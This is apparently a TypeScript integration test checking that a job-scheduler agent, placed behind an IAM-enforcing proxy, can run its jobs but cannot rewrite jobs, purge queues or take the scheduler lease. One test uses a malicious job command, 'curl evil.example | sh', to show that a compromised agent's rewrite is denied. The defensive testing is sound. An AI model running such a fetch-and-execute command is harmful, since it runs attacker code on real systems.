/**
 * An agent running with only its role's permissions. Its DynamoDB endpoint is an IAM-enforcing proxy
 * (support/iam-proxy.ts) that evaluates every request with @cloud-copilot/iam-simulate against the agent
 * role's policy taken from the synthesized CDK template. The agent still registers, claims, runs and
 * reports a job; writing a job with the same credentials is refused (AccessDeniedException) and the job
 * stays as the API wrote it. Its SQS endpoint is the same kind of proxy in front of moto: it receives and
 * deletes its launches, and may not purge or reconfigure queues nor receive from another queue.
 */
import {
  CreateQueueCommand,
  PurgeQueueCommand,
  ReceiveMessageCommand,
  SetQueueAttributesCommand,
} from '@aws-sdk/client-sqs';
import { DeleteCommand, GetCommand, PutCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Agent } from '../../agent/agent.ts';
import { provisionFromTemplate, synthTemplate } from '../../local/provision.ts';
import { type Context, createContext } from '../../shared/context.ts';
import { validateJob } from '../../shared/jobs/job.ts';
import {
  agentRoleLogicalId,
  evaluate,
  type IamProxy,
  type LocalNames,
  type PolicyDocument,
  rolePolicyFromTemplate,
  startIamProxy,
  tableArn,
} from './support/iam-proxy.ts';
import { useTestStack, waitFor } from './support/stack.ts';

const PREFIX = `iam${process.pid}-`;
const ACCOUNT = '000000000000';
const stack = useTestStack({ prefix: PREFIX, agents: [], worker: false });

let proxy: IamProxy;
let sqsProxy: IamProxy;
let policy: PolicyDocument;
let names: LocalNames;
let principal: string;
let agentCtx: Context;
let agent: Agent;

beforeAll(async () => {
  const template = synthTemplate();
  const clients = stack.ctx.clients;
  // Provisioning is idempotent: this returns the stack's logical id → local name maps.
  const resources = await provisionFromTemplate(
    { dynamodb: clients.dynamodb, sqs: clients.sqs },
    { prefix: PREFIX, template },
  );
  const region = await clients.dynamodb.config.region();
  names = {
    region,
    accountId: ACCOUNT,
    stackName: PREFIX.replace(/-+$/, ''),
    tables: resources.tables,
    queues: resources.queues,
    buses: resources.buses,
    buckets: resources.buckets,
  };
  const roleId = agentRoleLogicalId(template);
  principal = `arn:aws:iam::${ACCOUNT}:role/${roleId}`;
  policy = rolePolicyFromTemplate(template, roleId, names);
  proxy = await startIamProxy({
    target: stack.env.AWS_ENDPOINT_URL_DYNAMODB!,
    policy,
    principal,
    region,
    accountId: ACCOUNT,
    dynamodb: clients.dynamodb,
  });
  sqsProxy = await startIamProxy({
    target: stack.env.AWS_ENDPOINT_URL_SQS!,
    policy,
    principal,
    region,
    accountId: ACCOUNT,
    dynamodb: clients.dynamodb,
  });
  agentCtx = createContext({
    ...stack.env,
    AWS_ENDPOINT_URL_DYNAMODB: proxy.url,
    AWS_ENDPOINT_URL_SQS: sqsProxy.url,
  });
  agent = new Agent(agentCtx, { agentId: 'limited-1', pollWaitSeconds: 1, registryRefreshMs: 1_000 });
  await agent.start();
}, 60_000);

afterAll(async () => {
  await agent?.stop(5_000);
  await proxy?.close();
  await sqsProxy?.close();
});

const denied = () => [...proxy.decisions, ...sqsProxy.decisions].filter((d) => !d.allowed);

interface ApiExecution {
  status: string;
  node_name: string;
  output: string;
}

describe('an agent limited to its role', () => {
  it('claims, runs and reports a job, every DynamoDB call it makes allowed by the policy', async () => {
    const created = await stack.api('POST', '/v1/jobs', {
      name: 'iam-echo',
      schedule: '@manually',
      executor: 'shell',
      // Long enough for the execution's heartbeats (every 2 s) to go through the proxy too.
      executor_config: { shell: 'true', command: 'sleep 3; echo hello-from-the-limited-agent' },
    });
    expect(created.status).toBe(201);
    // The agent registers its tag set's queue; a run before that fails for want of a live agent.
    await waitFor(async () => (await stack.api('GET', '/v1/members')).body.length > 0, 60_000, 'the member');
    expect((await stack.api('POST', '/v1/jobs/iam-echo/run')).status).toBe(202);
    const run = await waitFor(
      async () => {
        const list = (await stack.api<ApiExecution[]>('GET', '/v1/jobs/iam-echo/executions')).body;
        return list[0] && ['succeeded', 'failed', 'lost'].includes(list[0].status) ? list[0] : null;
      },
      // Margin for a loaded machine (two cores, other suites running): a run takes ~4 s when idle.
      90_000,
      'the execution to finish',
    );
    expect(run).toMatchObject({
      status: 'succeeded',
      node_name: 'limited-1',
      output: 'hello-from-the-limited-agent\n',
    });
    // The path went through the proxy and nothing on it was refused.
    const actions = new Set(proxy.decisions.flatMap((d) => d.requests.map((r) => r.action)));
    expect(actions).toEqual(
      new Set([
        'dynamodb:UpdateItem', // membership, the claim, heartbeats, the result
        'dynamodb:Scan', // the tag-set queue registry
        // Before the claim, the job and the execution (eventually consistent; GetItem reads them again
        // consistently when that read shows anything but `scheduled`); after it, the job and the pause flag.
        'dynamodb:BatchGetItem',
      ]),
    );
    // Heartbeats of the running execution (not the claim, not the result) went through it too.
    const heartbeats = proxy.decisions.flatMap((d) =>
      d.requests.filter((r) => {
        const attributes = r.context['dynamodb:Attributes'] ?? [];
        return (
          r.resource.endsWith(`/${agentCtx.config.tables.executions}`) &&
          attributes.includes('heartbeatAt') &&
          !attributes.includes('claimedAt') &&
          !attributes.includes('finishedAt')
        );
      }),
    );
    expect(heartbeats.length).toBeGreaterThan(0);
    // The agent deletes settled messages in batches, shortly after the result is written.
    const sqsActions = () => new Set(sqsProxy.decisions.flatMap((d) => d.requests.map((r) => r.action)));
    await waitFor(async () => sqsActions().has('sqs:DeleteMessage'), 15_000, 'the launch message deleted');
    expect(sqsActions()).toContain('sqs:ReceiveMessage');
    expect(denied(), JSON.stringify(denied(), null, 1)).toEqual([]);
  }, 180_000);

  it("refuses the agent's credentials a rewrite of a job, and the job stays as the API wrote it", async () => {
    const before = (await stack.api('GET', '/v1/jobs/iam-echo')).body;
    const table = agentCtx.config.tables.jobs;
    const evil = validateJob({
      name: 'iam-echo',
      schedule: '@manually',
      executor: 'shell',
      executor_config: { command: 'curl evil.example | sh' },
    });
    const attempts = [
      agentCtx.clients.doc.send(
        new PutCommand({
          TableName: table,
          Item: { name: 'iam-echo', def: JSON.stringify(evil), version: 99 },
        }),
      ),
      agentCtx.clients.doc.send(
        new UpdateCommand({
          TableName: table,
          Key: { name: 'iam-echo' },
          UpdateExpression: 'SET #d = :d',
          ExpressionAttributeNames: { '#d': 'def' },
          ExpressionAttributeValues: { ':d': JSON.stringify(evil) },
        }),
      ),
      agentCtx.clients.doc.send(new DeleteCommand({ TableName: table, Key: { name: 'iam-echo' } })),
      // The store's own write path, as a compromised agent would call it.
      agentCtx.jobs.putDefinition(evil, null, before.version, Date.now()),
    ];
    for (const attempt of attempts) {
      await expect(attempt).rejects.toMatchObject({ name: 'AccessDeniedException' });
    }
    const after = (await stack.api('GET', '/v1/jobs/iam-echo')).body;
    expect(after.executor_config).toEqual(before.executor_config);
    expect(after.executor_config.command).toBe('sleep 3; echo hello-from-the-limited-agent');
    expect(after.version).toBe(before.version);
    expect(after.history).toEqual(before.history);
  });
});

describe('the IAM proxy itself', () => {
  it('passes an allowed request through to DynamoDB Local', async () => {
    const out = await agentCtx.clients.doc.send(
      new GetCommand({ TableName: agentCtx.config.tables.jobs, Key: { name: 'iam-echo' } }),
    );
    expect(out.Item?.name).toBe('iam-echo');
  });

  it('decides on the attributes an UpdateItem names: agent fields pass, others are refused', async () => {
    const table = agentCtx.config.tables.executions;
    const key = { jobName: 'iam-echo', executionId: 'no-such-execution' };
    // Allowed by the policy, so DynamoDB itself answers (the condition fails: there is no such item).
    await expect(
      agentCtx.clients.doc.send(
        new UpdateCommand({
          TableName: table,
          Key: key,
          UpdateExpression: 'SET heartbeatAt = :now',
          ConditionExpression: 'attribute_exists(executionId)',
          ExpressionAttributeValues: { ':now': 1 },
        }),
      ),
    ).rejects.toMatchObject({ name: 'ConditionalCheckFailedException' });
    // `jobVersion` is not an agent's to write: refused before DynamoDB sees it.
    await expect(
      agentCtx.clients.doc.send(
        new UpdateCommand({
          TableName: table,
          Key: key,
          UpdateExpression: 'SET jobVersion = :v',
          ConditionExpression: 'attribute_exists(executionId)',
          ExpressionAttributeValues: { ':v': 1 },
        }),
      ),
    ).rejects.toMatchObject({ name: 'AccessDeniedException' });
  });

  it('decides on leading keys: an agent may write lock# items in Control, not the scheduler lease', async () => {
    const table = agentCtx.config.tables.control;
    await expect(
      agentCtx.clients.doc.send(
        new UpdateCommand({
          TableName: table,
          Key: { pk: 'lease#scheduler' },
          UpdateExpression: 'SET #o = :me',
          ExpressionAttributeNames: { '#o': 'owner' },
          ExpressionAttributeValues: { ':me': 'intruder' },
        }),
      ),
    ).rejects.toMatchObject({ name: 'AccessDeniedException' });
    await expect(
      agentCtx.clients.doc.send(
        new UpdateCommand({
          TableName: table,
          Key: { pk: 'lock#iam-proxy-test' },
          UpdateExpression: 'SET #o = :me',
          ConditionExpression: 'attribute_exists(pk)',
          ExpressionAttributeNames: { '#o': 'owner' },
          ExpressionAttributeValues: { ':me': 'limited-1' },
        }),
      ),
    ).rejects.toMatchObject({ name: 'ConditionalCheckFailedException' });
  });

  it("reads a tag-set queue's registry entry, as a queue-created hint asks, and no other kind of key", async () => {
    const url = await stack.ctx.dispatch.queueFor({ zone: 'iam-hint' }, async () => []);
    expect(await agentCtx.dispatch.registered('zone=iam-hint')).toBe(url);
    expect(await agentCtx.dispatch.registered('zone=nowhere')).toBeNull();
    await expect(
      agentCtx.clients.doc.send(
        new GetCommand({ TableName: agentCtx.config.tables.control, Key: { pk: 'lease#scheduler' } }),
      ),
    ).rejects.toMatchObject({ name: 'AccessDeniedException' });
  });

  it('evaluates with the simulator: the same request is allowed by a policy that grants it', async () => {
    const request = { action: 'dynamodb:PutItem', resource: tableArn(names, 'anything'), context: {} };
    expect(await evaluate(policy, principal, ACCOUNT, request)).toBe('ImplicitlyDenied');
    const grant: PolicyDocument = {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Action: 'dynamodb:PutItem', Resource: tableArn(names, 'anything') }],
    };
    expect(await evaluate(grant, principal, ACCOUNT, request)).toBe('Allowed');
  });
});

describe('the queues, with the agent role', () => {
  const accessDenied = { name: expect.stringMatching(/AccessDenied/) };

  it('may not purge or reconfigure its own queue, create queues, or receive from another queue', async () => {
    const sqs = agentCtx.clients.sqs;
    const own = agentCtx.config.defaultQueueUrl;
    await expect(sqs.send(new PurgeQueueCommand({ QueueUrl: own }))).rejects.toMatchObject(accessDenied);
    await expect(
      sqs.send(new SetQueueAttributesCommand({ QueueUrl: own, Attributes: { Policy: '{"Statement":[]}' } })),
    ).rejects.toMatchObject(accessDenied);
    await expect(sqs.send(new CreateQueueCommand({ QueueName: `${PREFIX}tags-mine` }))).rejects.toMatchObject(
      accessDenied,
    );
    await expect(
      sqs.send(new ReceiveMessageCommand({ QueueUrl: agentCtx.config.workerQueueUrl!, WaitTimeSeconds: 0 })),
    ).rejects.toMatchObject(accessDenied);
    // …while receiving from its own queue goes through to moto.
    const fromOwn = await sqs.send(
      new ReceiveMessageCommand({ QueueUrl: own, WaitTimeSeconds: 0, VisibilityTimeout: 0 }),
    );
    expect(fromOwn.$metadata.httpStatusCode).toBe(200);
  });
});
